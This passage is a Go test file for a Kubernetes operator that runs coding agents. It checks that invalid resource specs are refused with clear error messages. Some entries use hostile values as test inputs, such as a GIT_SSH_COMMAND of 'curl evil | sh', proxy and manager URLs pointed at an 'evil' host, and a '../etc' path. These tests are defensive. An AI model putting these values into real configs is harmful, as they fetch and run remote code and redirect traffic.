package validation

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"time"

	. "github.com/onsi/ginkgo/v2"
	. "github.com/onsi/gomega"
	corev1 "k8s.io/api/core/v1"
	"k8s.io/apimachinery/pkg/api/resource"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"k8s.io/apimachinery/pkg/util/yaml"
	"sigs.k8s.io/controller-runtime/pkg/client"

	agentsv1alpha1 "github.com/shepherd-dev/shepherd/api/v1alpha1"
	"github.com/shepherd-dev/shepherd/internal/gitref"
	. "github.com/shepherd-dev/shepherd/test/builders"
)

func ptr[T any](v T) *T { return &v }

func dur(s string) *metav1.Duration {
	d, err := time.ParseDuration(s)
	Expect(err).NotTo(HaveOccurred())
	return &metav1.Duration{Duration: d}
}

var _ = Describe("Samples", func() {
	It("accepts every file in config/samples", func() {
		ns := newNamespace()
		files, err := filepath.Glob(filepath.Join(repoRoot(), "config", "samples", "*.yaml"))
		Expect(err).NotTo(HaveOccurred())
		created := 0
		for _, f := range files {
			if filepath.Base(f) == "kustomization.yaml" {
				continue
			}
			raw, err := os.ReadFile(f)
			Expect(err).NotTo(HaveOccurred())
			dec := yaml.NewYAMLOrJSONDecoder(strings.NewReader(string(raw)), 4096)
			for {
				u := &unstructured.Unstructured{}
				if err := dec.Decode(&u.Object); err != nil {
					break
				}
				if len(u.Object) == 0 {
					continue
				}
				u.SetNamespace(ns)
				Expect(k8sClient.Create(ctx, u)).To(Succeed(), "sample %s (%s %s)", filepath.Base(f), u.GetKind(), u.GetName())
				created++
			}
		}
		Expect(created).To(BeNumerically(">=", 3), "one sample per kind")
	})
})

// invalid is one object the API must refuse, and the part of the error a user reads after
// `<Kind> "<name>" is invalid: `.
type invalid struct {
	obj  func(ns string) client.Object
	want string
}

var _ = Describe("Invalid objects are refused with a message that says what to fix", func() {
	DescribeTable("on create",
		func(tc invalid) {
			ns := newNamespace()
			obj := tc.obj(ns)
			err := k8sClient.Create(ctx, obj)
			Expect(err).To(HaveOccurred())
			Expect(userMessage(err)).To(Equal(tc.want), userMessage(err))
		},
		// An enum error stops the API server before the CEL rules run, and it says so: those
		// entries expect the two-part message users really get.
		// Project
		Entry("a repository URL with an unsupported scheme", invalid{
			obj:  func(ns string) client.Object { return MakeProject("p", ns).URL("ftp://example.com/acme/widgets").Obj() },
			want: `spec.repository.url: Invalid value: "ftp://example.com/acme/widgets": repository URL must be https://host/owner/repo, http://host/owner/repo, ssh://host/owner/repo or scp-like user@host:owner/repo`,
		}),
		Entry("a repository URL with embedded credentials", invalid{
			obj: func(ns string) client.Object {
				return MakeProject("p", ns).URL("https://bot:ghp_secret@github.com/acme/widgets").Obj()
			},
			want: `spec.repository.url: Invalid value: "https://bot:ghp_secret@github.com/acme/widgets": repository URL must not embed credentials; put the token in a Secret and reference it from spec.repository.credentials`,
		}),
		Entry("an scp-like URL without a path", invalid{
			obj:  func(ns string) client.Object { return MakeProject("p", ns).URL("git@github.com:").Obj() },
			want: `spec.repository.url: Invalid value: "git@github.com:": repository URL must be https://host/owner/repo, http://host/owner/repo, ssh://host/owner/repo or scp-like user@host:owner/repo`,
		}),
		Entry("a default branch that git refuses", invalid{
			obj:  func(ns string) client.Object { return MakeProject("p", ns).DefaultBranch("main..dev").Obj() },
			want: `spec.repository.defaultBranch: Invalid value: "main..dev": branch name must not contain '..'`,
		}),
		Entry("no agent type", invalid{
			obj: func(ns string) client.Object {
				return MakeProject("p", ns).Agent("").Obj()
			},
			want: `spec.agent: Invalid value: spec.agent.type is required: one of claude-code, codex, aider, opencode, gemini, custom`,
		}),
		Entry("an unknown agent type", invalid{
			obj:  func(ns string) client.Object { return MakeProject("p", ns).Agent("cursor").Obj() },
			want: `[spec.agent.type: Unsupported value: "cursor": supported values: "claude-code", "codex", "aider", "opencode", "gemini", "custom", <nil>: Invalid value: null: some validation rules were not checked because the object was invalid; correct the existing errors to complete validation]`,
		}),
		Entry("an unknown routine events setting", invalid{
			obj: func(ns string) client.Object {
				p := MakeProject("p", ns).Obj()
				p.Spec.Events = &agentsv1alpha1.EventsSpec{Routine: "Quiet"}
				return p
			},
			want: `[spec.events.routine: Unsupported value: "Quiet": supported values: "Record", "Omit", <nil>: Invalid value: null: some validation rules were not checked because the object was invalid; correct the existing errors to complete validation]`,
		}),
		Entry("a negative session limit", invalid{
			obj:  func(ns string) client.Object { return MakeProject("p", ns).MaxConcurrent(-1).Obj() },
			want: `spec.limits.maxConcurrentSessions: Invalid value: -1: spec.limits.maxConcurrentSessions in body should be greater than or equal to 1`,
		}),
		Entry("a huge session limit", invalid{
			obj:  func(ns string) client.Object { return MakeProject("p", ns).MaxConcurrent(1000000).Obj() },
			want: `spec.limits.maxConcurrentSessions: Invalid value: 1000000: spec.limits.maxConcurrentSessions in body should be less than or equal to 10000`,
		}),
		Entry("both a token and a GitHub App", invalid{
			obj: func(ns string) client.Object {
				return MakeProject("p", ns).TokenSecret("gh", "token").With(func(s *agentsv1alpha1.ProjectSpec) {
					s.Repository.Credentials.GitHubApp = &agentsv1alpha1.GitHubAppCredentials{AppID: 1, InstallationID: 2,
						PrivateKeySecretRef: agentsv1alpha1.SecretKeyRef{Name: "app", Key: "key.pem"}}
				}).Obj()
			},
			want: `spec.repository.credentials: Invalid value: set exactly one of credentials.secretRef (a token) or credentials.githubApp`,
		}),
		Entry("a secret reference without a key", invalid{
			obj:  func(ns string) client.Object { return MakeProject("p", ns).TokenSecret("gh", "").Obj() },
			want: `spec.repository.credentials.secretRef.key: Invalid value: "": spec.repository.credentials.secretRef.key in body should be at least 1 chars long`,
		}),
		Entry("a secret key with a slash", invalid{
			obj:  func(ns string) client.Object { return MakeProject("p", ns).TokenSecret("gh", "a/b").Obj() },
			want: `spec.repository.credentials.secretRef.key: Invalid value: "a/b": spec.repository.credentials.secretRef.key in body should match '^[-._a-zA-Z0-9]+$'`,
		}),
		Entry("a maxDuration too short", invalid{
			obj: func(ns string) client.Object {
				return MakeProject("p", ns).With(func(s *agentsv1alpha1.ProjectSpec) {
					s.Limits = &agentsv1alpha1.LimitsSpec{SessionLimits: agentsv1alpha1.SessionLimits{MaxDuration: dur("30s")}}
				}).Obj()
			},
			want: `spec.limits.maxDuration: Invalid value: "30s": maxDuration must be between 1m and 720h`,
		}),
		Entry("maxTurns of 0", invalid{
			obj: func(ns string) client.Object {
				return MakeProject("p", ns).With(func(s *agentsv1alpha1.ProjectSpec) {
					s.Limits = &agentsv1alpha1.LimitsSpec{SessionLimits: agentsv1alpha1.SessionLimits{MaxTurns: ptr(int32(0))}}
				}).Obj()
			},
			want: `spec.limits.maxTurns: Invalid value: 0: spec.limits.maxTurns in body should be greater than or equal to 1`,
		}),
		Entry("an issue poll interval too short", invalid{
			obj: func(ns string) client.Object {
				return MakeProject("p", ns).With(func(s *agentsv1alpha1.ProjectSpec) {
					s.Tracker = &agentsv1alpha1.TrackerSpec{Provider: agentsv1alpha1.TrackerGitHub, IssuePollInterval: dur("10s")}
				}).Obj()
			},
			want: `spec.tracker.issuePollInterval: Invalid value: "10s": issuePollInterval must be between 1m and 24h`,
		}),
		Entry("a command prefix with a space", invalid{
			obj: func(ns string) client.Object {
				return MakeProject("p", ns).With(func(s *agentsv1alpha1.ProjectSpec) {
					s.Feedback = &agentsv1alpha1.FeedbackSpec{CommandPrefix: "/shepherd please"}
				}).Obj()
			},
			want: `spec.feedback.commandPrefix: Invalid value: "/shepherd please": commandPrefix must be one word without spaces, such as /shepherd`,
		}),
		Entry("a maxCostUSD that is not dollars", invalid{
			obj: func(ns string) client.Object {
				return MakeProject("p", ns).With(func(s *agentsv1alpha1.ProjectSpec) {
					s.Limits = &agentsv1alpha1.LimitsSpec{SessionLimits: agentsv1alpha1.SessionLimits{MaxCostUSD: "$3"}}
				}).Obj()
			},
			want: `spec.limits.maxCostUSD: Invalid value: "$3": spec.limits.maxCostUSD in body should match '^[0-9]+(\.[0-9]+)?$'`,
		}),
		Entry("a budget without a cap", invalid{
			obj: func(ns string) client.Object {
				return MakeProject("p", ns).With(func(s *agentsv1alpha1.ProjectSpec) {
					s.Budget = &agentsv1alpha1.BudgetSpec{TimeZone: "UTC"}
				}).Obj()
			},
			want: `spec.budget: Invalid value: a budget needs at least one cap: dailyUSD, monthlyUSD, dailyTokens or monthlyTokens`,
		}),
		Entry("a budget in euros", invalid{
			obj: func(ns string) client.Object {
				return MakeProject("p", ns).With(func(s *agentsv1alpha1.ProjectSpec) {
					s.Budget = &agentsv1alpha1.BudgetSpec{DailyUSD: "50€"}
				}).Obj()
			},
			want: `spec.budget.dailyUSD: Invalid value: "50€": spec.budget.dailyUSD in body should match '^[0-9]+(\.[0-9]+)?$'`,
		}),
		Entry("custom agent settings on another agent type", invalid{
			obj: func(ns string) client.Object {
				return MakeProject("p", ns).With(func(s *agentsv1alpha1.ProjectSpec) {
					s.Agent.Custom = &agentsv1alpha1.CustomAgentSpec{Command: []string{"/bin/agent"}}
				}).Obj()
			},
			want: `spec.agent: Invalid value: agent.custom is for type custom only: remove it, or set type: custom`,
		}),
		Entry("a custom agent's unknown output format", invalid{
			obj: func(ns string) client.Object {
				return MakeProject("p", ns).With(func(s *agentsv1alpha1.ProjectSpec) {
					s.Agent = agentsv1alpha1.AgentSpec{Type: agentsv1alpha1.AgentCustom, Image: "team/agent:1",
						Custom: &agentsv1alpha1.CustomAgentSpec{Command: []string{"/bin/agent"}, Output: "Morse"}}
				}).Obj()
			},
			want: `[spec.agent.custom.output: Unsupported value: "Morse": supported values: "Shepherd", "ClaudeCode", "Codex", "OpenCode", "Gemini", <nil>: Invalid value: null: some validation rules were not checked because the object was invalid; correct the existing errors to complete validation]`,
		}),
		Entry("a custom agent without a command", invalid{
			obj: func(ns string) client.Object {
				return MakeProject("p", ns).With(func(s *agentsv1alpha1.ProjectSpec) {
					s.Agent = agentsv1alpha1.AgentSpec{Type: agentsv1alpha1.AgentCustom, Image: "team/agent:1", Custom: &agentsv1alpha1.CustomAgentSpec{}}
				}).Obj()
			},
			want: `[spec.agent.custom.command: Required value, <nil>: Invalid value: null: some validation rules were not checked because the object was invalid; correct the existing errors to complete validation]`,
		}),
		Entry("an AgentTask with neither attempts nor variants", invalid{
			obj:  func(ns string) client.Object { return agentTask(ns, func(*agentsv1alpha1.AgentTaskSpec) {}) },
			want: `spec: Invalid value: set spec.attempts (N of the same agent) or spec.variants (one attempt per variant)`,
		}),
		Entry("an AgentTask whose attempts disagree with its variants", invalid{
			obj: func(ns string) client.Object {
				return agentTask(ns, func(s *agentsv1alpha1.AgentTaskSpec) {
					s.Attempts = ptr(int32(3))
					s.Variants = []agentsv1alpha1.AttemptVariant{{Agent: agentsv1alpha1.AgentSpec{Type: agentsv1alpha1.AgentCodex}}}
				})
			},
			want: `spec: Invalid value: spec.attempts must equal the number of spec.variants when both are set`,
		}),
		Entry("an AgentTask of eleven attempts", invalid{
			obj: func(ns string) client.Object {
				return agentTask(ns, func(s *agentsv1alpha1.AgentTaskSpec) { s.Attempts = ptr(int32(11)) })
			},
			want: `spec.attempts: Invalid value: 11: spec.attempts in body should be less than or equal to 10`,
		}),
		Entry("an AgentTask with an unknown policy", invalid{
			obj: func(ns string) client.Object {
				return agentTask(ns, func(s *agentsv1alpha1.AgentTaskSpec) {
					s.Attempts = ptr(int32(2))
					s.Selection = &agentsv1alpha1.SelectionSpec{Policy: "Fastest"}
				})
			},
			want: `[spec.selection.policy: Unsupported value: "Fastest": supported values: "FirstGreen", "Score", "Human", <nil>: Invalid value: null: some validation rules were not checked because the object was invalid; correct the existing errors to complete validation]`,
		}),
		Entry("an AgentTask cost cap that is not an amount", invalid{
			obj: func(ns string) client.Object {
				return agentTask(ns, func(s *agentsv1alpha1.AgentTaskSpec) { s.Attempts = ptr(int32(2)); s.MaxCostUSD = "ten" })
			},
			want: `spec.maxCostUSD: Invalid value: "ten": maxCostUSD must be a dollar amount such as 5 or 12.50`,
		}),
		Entry("an AgentTask name too long for its attempts' names", invalid{
			obj: func(ns string) client.Object {
				t := agentTask(ns, func(s *agentsv1alpha1.AgentTaskSpec) { s.Attempts = ptr(int32(2)) })
				t.Name = strings.Repeat("a", 57)
				return t
			},
			want: `<nil>: Invalid value: name must be a DNS label of at most 56 characters: each attempt is an AgentSession named <task>-<n>`,
		}),
		Entry("a Project with a pick", invalid{
			obj: func(ns string) client.Object {
				return MakeProject("p", ns).With(func(s *agentsv1alpha1.ProjectSpec) {
					s.Selection = &agentsv1alpha1.SelectionSpec{Pick: "fix-1"}
				}).Obj()
			},
			want: `spec.selection: Invalid value: spec.selection.pick belongs on an AgentTask, not a Project`,
		}),
		Entry("a BudgetPolicy without a cap", invalid{
			obj: func(ns string) client.Object {
				return &agentsv1alpha1.BudgetPolicy{ObjectMeta: metav1.ObjectMeta{Name: "team", Namespace: ns},
					Spec: agentsv1alpha1.BudgetPolicySpec{Budget: agentsv1alpha1.BudgetSpec{TimeZone: "UTC"}}}
			},
			want: `spec.budget: Invalid value: a budget needs at least one cap: dailyUSD, monthlyUSD, dailyTokens or monthlyTokens`,
		}),
		Entry("a BudgetPolicy selector with an unknown operator", invalid{
			obj: func(ns string) client.Object {
				return &agentsv1alpha1.BudgetPolicy{ObjectMeta: metav1.ObjectMeta{Name: "team", Namespace: ns},
					Spec: agentsv1alpha1.BudgetPolicySpec{Budget: agentsv1alpha1.BudgetSpec{DailyUSD: "50"},
						ProjectSelector: &metav1.LabelSelector{MatchExpressions: []metav1.LabelSelectorRequirement{{Key: "team", Operator: "Near", Values: []string{"a"}}}}}}
			},
			want: `spec.projectSelector: Invalid value: each matchExpressions entry needs operator In or NotIn with values, or Exists or DoesNotExist without`,
		}),
		Entry("a comment bound too small", invalid{
			obj: func(ns string) client.Object {
				return MakeProject("p", ns).With(func(s *agentsv1alpha1.ProjectSpec) {
					s.Feedback = &agentsv1alpha1.FeedbackSpec{MaxCommentBytes: ptr(int32(10))}
				}).Obj()
			},
			want: `spec.feedback.maxCommentBytes: Invalid value: 10: spec.feedback.maxCommentBytes in body should be greater than or equal to 200`,
		}),
		Entry("a commented reaction that merges", invalid{
			obj: func(ns string) client.Object {
				return MakeProject("p", ns).With(func(s *agentsv1alpha1.ProjectSpec) {
					s.Reactions = &agentsv1alpha1.ReactionsSpec{Commented: &agentsv1alpha1.Reaction{Action: agentsv1alpha1.ReactionMerge}}
				}).Obj()
			},
			want: `spec.reactions.commented: Invalid value: action Merge is only valid for approvedAndGreen`,
		}),
		Entry("a poll interval too short", invalid{
			obj: func(ns string) client.Object {
				return MakeProject("p", ns).With(func(s *agentsv1alpha1.ProjectSpec) { s.SCM.PollInterval = dur("1s") }).Obj()
			},
			want: `spec.scm.pollInterval: Invalid value: "1s": pollInterval must be between 10s and 1h`,
		}),
		Entry("a webhook poll interval too long", invalid{
			obj: func(ns string) client.Object {
				return MakeProject("p", ns).With(func(s *agentsv1alpha1.ProjectSpec) { s.SCM.WebhookPollInterval = dur("2h") }).Obj()
			},
			want: `spec.scm.webhookPollInterval: Invalid value: "2h0m0s": webhookPollInterval must be between 10s and 1h`,
		}),
		Entry("a webhook poll interval shorter than the poll interval", invalid{
			obj: func(ns string) client.Object {
				return MakeProject("p", ns).With(func(s *agentsv1alpha1.ProjectSpec) {
					s.SCM.PollInterval, s.SCM.WebhookPollInterval = dur("5m"), dur("1m")
				}).Obj()
			},
			want: `spec.scm: Invalid value: webhookPollInterval must not be shorter than pollInterval`,
		}),
		Entry("Merge on a trigger other than approvedAndGreen", invalid{
			obj: func(ns string) client.Object {
				return MakeProject("p", ns).Reaction(agentsv1alpha1.TriggerCIFailed, agentsv1alpha1.Reaction{Action: agentsv1alpha1.ReactionMerge}).Obj()
			},
			want: `spec.reactions.ciFailed: Invalid value: action Merge is only valid for approvedAndGreen`,
		}),
		Entry("negative retries", invalid{
			obj: func(ns string) client.Object {
				return MakeProject("p", ns).Reaction(agentsv1alpha1.TriggerCIFailed, agentsv1alpha1.Reaction{Action: agentsv1alpha1.ReactionSendToAgent, Retries: ptr(int32(-1))}).Obj()
			},
			want: `spec.reactions.ciFailed.retries: Invalid value: -1: spec.reactions.ciFailed.retries in body should be greater than or equal to 0`,
		}),
		Entry("too many retries", invalid{
			obj: func(ns string) client.Object {
				return MakeProject("p", ns).Reaction(agentsv1alpha1.TriggerCIFailed, agentsv1alpha1.Reaction{Action: agentsv1alpha1.ReactionSendToAgent, Retries: ptr(int32(50))}).Obj()
			},
			want: `spec.reactions.ciFailed.retries: Invalid value: 50: spec.reactions.ciFailed.retries in body should be less than or equal to 20`,
		}),
		Entry("an escalation shorter than a minute", invalid{
			obj: func(ns string) client.Object {
				return MakeProject("p", ns).Reaction(agentsv1alpha1.TriggerChangesRequested, agentsv1alpha1.Reaction{Action: agentsv1alpha1.ReactionSendToAgent, EscalateAfter: dur("10s")}).Obj()
			},
			want: `spec.reactions.changesRequested.escalateAfter: Invalid value: "10s": escalateAfter must be between 1m and 168h`,
		}),
		Entry("a merge method on a Notify reaction", invalid{
			obj: func(ns string) client.Object {
				return MakeProject("p", ns).Reaction(agentsv1alpha1.TriggerApprovedAndGreen, agentsv1alpha1.Reaction{Action: agentsv1alpha1.ReactionNotify, MergeMethod: agentsv1alpha1.MergeSquash}).Obj()
			},
			want: `spec.reactions.approvedAndGreen: Invalid value: mergeMethod is only valid with action Merge`,
		}),
		Entry("a merge gate opt-out on a Notify reaction", invalid{
			obj: func(ns string) client.Object {
				return MakeProject("p", ns).Reaction(agentsv1alpha1.TriggerApprovedAndGreen, agentsv1alpha1.Reaction{Action: agentsv1alpha1.ReactionNotify, MergeWithoutApproval: true}).Obj()
			},
			want: `spec.reactions.approvedAndGreen: Invalid value: mergeWithoutApproval and mergeWithoutChecks are only valid with action Merge`,
		}),
		Entry("a notification route with both a webhook and Slack", invalid{
			obj: func(ns string) client.Object {
				return MakeProject("p", ns).With(func(s *agentsv1alpha1.ProjectSpec) {
					s.Notifications = &agentsv1alpha1.NotificationsSpec{Routes: []agentsv1alpha1.NotificationRoute{{
						Name: "ops", Priorities: []agentsv1alpha1.Priority{agentsv1alpha1.PriorityUrgent},
						Webhook: &agentsv1alpha1.WebhookTarget{URL: "https://hooks.example.com/x", SecretRef: agentsv1alpha1.SecretKeyRef{Name: "n", Key: "k"}},
						Slack:   &agentsv1alpha1.SlackTarget{WebhookURLSecretRef: agentsv1alpha1.SecretKeyRef{Name: "s", Key: "url"}},
					}}}
				}).Obj()
			},
			want: `spec.notifications.routes[0]: Invalid value: set exactly one of webhook or slack on each notification route`,
		}),
		Entry("a Linear tracker without its settings", invalid{
			obj: func(ns string) client.Object {
				return MakeProject("p", ns).With(func(s *agentsv1alpha1.ProjectSpec) {
					s.Tracker = &agentsv1alpha1.TrackerSpec{Provider: agentsv1alpha1.TrackerLinear}
				}).Obj()
			},
			want: `spec.tracker: Invalid value: tracker.linear is required when tracker.provider is linear`,
		}),
		Entry("a backlog without a tracker", invalid{
			obj: func(ns string) client.Object {
				return MakeProject("p", ns).With(func(s *agentsv1alpha1.ProjectSpec) {
					s.Backlog = &agentsv1alpha1.BacklogSpec{Labels: []string{"agent:backlog"}, MaxConcurrent: 5}
				}).Obj()
			},
			want: `spec: Invalid value: spec.backlog needs spec.tracker: set the tracker whose issues the backlog is read from`,
		}),
		Entry("a setup command with no program", invalid{
			obj: func(ns string) client.Object {
				return MakeProject("p", ns).With(func(s *agentsv1alpha1.ProjectSpec) {
					s.Workspace.Setup = []agentsv1alpha1.SetupCommand{{Name: "install", Command: []string{}}}
				}).Obj()
			},
			want: `spec.workspace.setup[0].command: Invalid value: 0: spec.workspace.setup[0].command in body should have at least 1 items`,
		}),
		Entry("a shared path that leaves the checkout", invalid{
			obj: func(ns string) client.Object {
				return MakeProject("p", ns).With(func(s *agentsv1alpha1.ProjectSpec) {
					s.Workspace.SharedPaths = []string{"node_modules", "../etc"}
				}).Obj()
			},
			want: `spec.workspace.sharedPaths: Invalid value: sharedPaths must stay inside the checkout: no '.', '..' or '.git' parts`,
		}),
		Entry("shared paths that nest", invalid{
			obj: func(ns string) client.Object {
				return MakeProject("p", ns).With(func(s *agentsv1alpha1.ProjectSpec) {
					s.Workspace.SharedPaths = []string{"web", "node_modules", "web/node_modules"}
				}).Obj()
			},
			want: `spec.workspace.sharedPaths: Invalid value: sharedPaths must not nest: list only the outer path (a path inside a shared path is already in the cache)`,
		}),
		Entry("spare worktrees in clone mode", invalid{
			obj: func(ns string) client.Object {
				return MakeProject("p", ns).With(func(s *agentsv1alpha1.ProjectSpec) {
					s.Workspace.Mode, s.Workspace.SpareWorktrees = agentsv1alpha1.WorkspaceClone, 1
				}).Obj()
			},
			want: `spec.workspace: Invalid value: spareWorktrees needs mode Worktree: spares are worktrees of the Project's mirror`,
		}),
		Entry("too many spare worktrees", invalid{
			obj: func(ns string) client.Object {
				return MakeProject("p", ns).With(func(s *agentsv1alpha1.ProjectSpec) { s.Workspace.SpareWorktrees = 9 }).Obj()
			},
			want: `spec.workspace.spareWorktrees: Invalid value: 9: spec.workspace.spareWorktrees in body should be less than or equal to 8`,
		}),
		Entry("an egress rule that is not a CIDR", invalid{
			obj: func(ns string) client.Object {
				return MakeProject("p", ns).With(func(s *agentsv1alpha1.ProjectSpec) {
					s.Network = &agentsv1alpha1.NetworkSpec{Egress: &agentsv1alpha1.EgressSpec{Allow: []agentsv1alpha1.EgressRule{{CIDR: "api.anthropic.com"}}}}
				}).Obj()
			},
			want: `spec.network.egress.allow[0].cidr: Invalid value: "api.anthropic.com": cidr must be a CIDR such as 10.0.0.0/8 or 2001:db8::/32`,
		}),
		Entry("a toleration with an unknown operator", invalid{
			obj: func(ns string) client.Object {
				return MakeProject("p", ns).With(func(s *agentsv1alpha1.ProjectSpec) {
					s.Scheduling = &agentsv1alpha1.SchedulingSpec{Tolerations: []corev1.Toleration{{Key: "pool", Operator: "In", Value: "agents"}}}
				}).Obj()
			},
			want: `spec.scheduling.tolerations: Invalid value: toleration operator must be Exists or Equal`,
		}),
		Entry("a toleration without a key that is not Exists", invalid{
			obj: func(ns string) client.Object {
				return MakeProject("p", ns).With(func(s *agentsv1alpha1.ProjectSpec) {
					s.Scheduling = &agentsv1alpha1.SchedulingSpec{Tolerations: []corev1.Toleration{{Operator: corev1.TolerationOpEqual, Value: "x"}}}
				}).Obj()
			},
			want: `spec.scheduling.tolerations: Invalid value: a toleration without a key must use operator Exists (it then tolerates every taint)`,
		}),
		Entry("a priority class name that is not a DNS subdomain", invalid{
			obj: func(ns string) client.Object {
				return MakeProject("p", ns).With(func(s *agentsv1alpha1.ProjectSpec) {
					s.Scheduling = &agentsv1alpha1.SchedulingSpec{PriorityClassName: "Agents_Low"}
				}).Obj()
			},
			want: `spec.scheduling.priorityClassName: Invalid value: "Agents_Low": spec.scheduling.priorityClassName in body should match '^[a-z0-9]([-a-z0-9.]*[a-z0-9])?$'`,
		}),
		Entry("a volume larger than 10Ti", invalid{
			obj: func(ns string) client.Object {
				return MakeProject("p", ns).With(func(s *agentsv1alpha1.ProjectSpec) {
					s.Workspace.Storage = &agentsv1alpha1.StorageSpec{Size: ptr(resource.MustParse("100Ti"))}
				}).Obj()
			},
			want: `spec.workspace.storage.size: Invalid value: "100Ti": storage size must be more than 0 and at most 10Ti`,
		}),
		Entry("idle threshold not shorter than the stuck threshold", invalid{
			obj: func(ns string) client.Object {
				return MakeProject("p", ns).With(func(s *agentsv1alpha1.ProjectSpec) {
					s.Activity = &agentsv1alpha1.ActivitySpec{IdleAfter: dur("20m"), StuckAfter: dur("10m")}
				}).Obj()
			},
			want: `spec.activity: Invalid value: activity.idleAfter must be shorter than activity.stuckAfter`,
		}),
		Entry("an agent credential with an invalid variable name", invalid{
			obj: func(ns string) client.Object {
				return MakeProject("p", ns).With(func(s *agentsv1alpha1.ProjectSpec) {
					s.Agent.Credentials = []agentsv1alpha1.AgentCredential{{EnvName: "1BAD", SecretRef: agentsv1alpha1.SecretKeyRef{Name: "k", Key: "v"}}}
				}).Obj()
			},
			want: `spec.agent.credentials[0].envName: Invalid value: "1BAD": spec.agent.credentials[0].envName in body should match '^[A-Za-z_][A-Za-z0-9_]*$'`,
		}),
		Entry("a reserved name in the agent's environment", invalid{
			obj: func(ns string) client.Object {
				return MakeProject("p", ns).With(func(s *agentsv1alpha1.ProjectSpec) {
					s.Agent.Env = []agentsv1alpha1.EnvVar{{Name: "SHEPHERD_MANAGER_URL", Value: "http://evil"}}
				}).Obj()
			},
			want: `spec.agent.env[0]: Invalid value: env name is reserved: SHEPHERD_*, GIT_*, HOME and the proxy variables (HTTP_PROXY, HTTPS_PROXY, NO_PROXY, ALL_PROXY) are set by Shepherd; set the git identity with agent.gitAuthor and allowed hosts with spec.network.egress.hosts`,
		}),
		Entry("a git variable in the agent's environment (GIT_SSH_COMMAND, GIT_CONFIG_*: they redirect git)", invalid{
			obj: func(ns string) client.Object {
				return MakeSession("s", ns, "p").Prompt("x").With(func(s *agentsv1alpha1.AgentSessionSpec) {
					s.Agent = &agentsv1alpha1.AgentSpec{Env: []agentsv1alpha1.EnvVar{{Name: "GIT_SSH_COMMAND", Value: "curl evil | sh"}}}
				}).Obj()
			},
			want: `spec.agent.env[0]: Invalid value: env name is reserved: SHEPHERD_*, GIT_*, HOME and the proxy variables (HTTP_PROXY, HTTPS_PROXY, NO_PROXY, ALL_PROXY) are set by Shepherd; set the git identity with agent.gitAuthor and allowed hosts with spec.network.egress.hosts`,
		}),
		Entry("a proxy variable in lower case", invalid{
			obj: func(ns string) client.Object {
				return MakeProject("p", ns).With(func(s *agentsv1alpha1.ProjectSpec) {
					s.Agent.Env = []agentsv1alpha1.EnvVar{{Name: "https_proxy", Value: "http://evil:3128"}}
				}).Obj()
			},
			want: `spec.agent.env[0]: Invalid value: env name is reserved: SHEPHERD_*, GIT_*, HOME and the proxy variables (HTTP_PROXY, HTTPS_PROXY, NO_PROXY, ALL_PROXY) are set by Shepherd; set the git identity with agent.gitAuthor and allowed hosts with spec.network.egress.hosts`,
		}),
		Entry("HOME as an agent credential", invalid{
			obj: func(ns string) client.Object {
				return MakeProject("p", ns).With(func(s *agentsv1alpha1.ProjectSpec) {
					s.Agent.Credentials = []agentsv1alpha1.AgentCredential{{EnvName: "HOME", SecretRef: agentsv1alpha1.SecretKeyRef{Name: "k", Key: "v"}}}
				}).Obj()
			},
			want: `spec.agent.credentials[0]: Invalid value: credential envName is reserved: SHEPHERD_*, GIT_*, HOME and the proxy variables are set by Shepherd`,
		}),
		Entry("a model API key in the agent's environment", invalid{
			obj: func(ns string) client.Object {
				return MakeProject("p", ns).With(func(s *agentsv1alpha1.ProjectSpec) {
					s.Agent.Credentials = []agentsv1alpha1.AgentCredential{{EnvName: "ANTHROPIC_API_KEY", SecretRef: agentsv1alpha1.SecretKeyRef{Name: "k", Key: "v"}}}
				}).Obj()
			},
			want: `spec.agent.credentials[0]: Invalid value: a model API key must not be in the agent's environment, where a steered agent can read it: reference it from agent.modelAPI.keySecretRef and the runner's model proxy adds it to each request`,
		}),
		Entry("an unknown model API", invalid{
			obj: func(ns string) client.Object {
				return MakeProject("p", ns).With(func(s *agentsv1alpha1.ProjectSpec) {
					s.Agent.ModelAPI = &agentsv1alpha1.ModelAPISpec{API: "Gopher"}
				}).Obj()
			},
			want: `[spec.agent.modelAPI.api: Unsupported value: "Gopher": supported values: "Anthropic", "OpenAI", "Gemini", <nil>: Invalid value: null: some validation rules were not checked because the object was invalid; correct the existing errors to complete validation]`,
		}),
		Entry("a model request budget of zero", invalid{
			obj: func(ns string) client.Object {
				return MakeProject("p", ns).With(func(s *agentsv1alpha1.ProjectSpec) {
					zero := int64(0)
					s.Agent.ModelAPI = &agentsv1alpha1.ModelAPISpec{API: agentsv1alpha1.ModelAPIAnthropic, Limits: &agentsv1alpha1.ModelLimits{MaxRequests: &zero}}
				}).Obj()
			},
			want: `spec.agent.modelAPI.limits.maxRequests: Invalid value: 0: spec.agent.modelAPI.limits.maxRequests in body should be greater than or equal to 1`,
		}),
		Entry("a git author name that forges another header", invalid{
			obj: func(ns string) client.Object {
				return MakeProject("p", ns).With(func(s *agentsv1alpha1.ProjectSpec) {
					s.Agent.GitAuthor = &agentsv1alpha1.GitAuthor{Name: "Bot <root@example.com>", Email: "bot@example.com"}
				}).Obj()
			},
			want: `spec.agent.gitAuthor.name: Invalid value: "Bot <root@example.com>": gitAuthor.name must not contain '<', '>' or control characters`,
		}),
		Entry("an egress host that is not a host name", invalid{
			obj: func(ns string) client.Object {
				return MakeProject("p", ns).With(func(s *agentsv1alpha1.ProjectSpec) {
					s.Network = &agentsv1alpha1.NetworkSpec{Egress: &agentsv1alpha1.EgressSpec{Hosts: []string{"https://registry.npmjs.org/"}}}
				}).Obj()
			},
			want: `spec.network.egress.hosts[0]: Invalid value: "https://registry.npmjs.org/": spec.network.egress.hosts[0] in body should match '^(\*\.)?[a-z0-9]([-a-z0-9]*[a-z0-9])?(\.[a-z0-9]([-a-z0-9]*[a-z0-9])?)*(:[0-9]{1,5})?$'`,
		}),
		Entry("a runtime class that is not a DNS name", invalid{
			obj: func(ns string) client.Object {
				return MakeProject("p", ns).With(func(s *agentsv1alpha1.ProjectSpec) {
					s.Scheduling = &agentsv1alpha1.SchedulingSpec{RuntimeClassName: "gVisor"}
				}).Obj()
			},
			want: `spec.scheduling.runtimeClassName: Invalid value: "gVisor": spec.scheduling.runtimeClassName in body should match '^[a-z0-9]([-a-z0-9.]*[a-z0-9])?$'`,
		}),
		Entry("a trusted association GitHub does not have", invalid{
			obj: func(ns string) client.Object {
				return MakeProject("p", ns).With(func(s *agentsv1alpha1.ProjectSpec) {
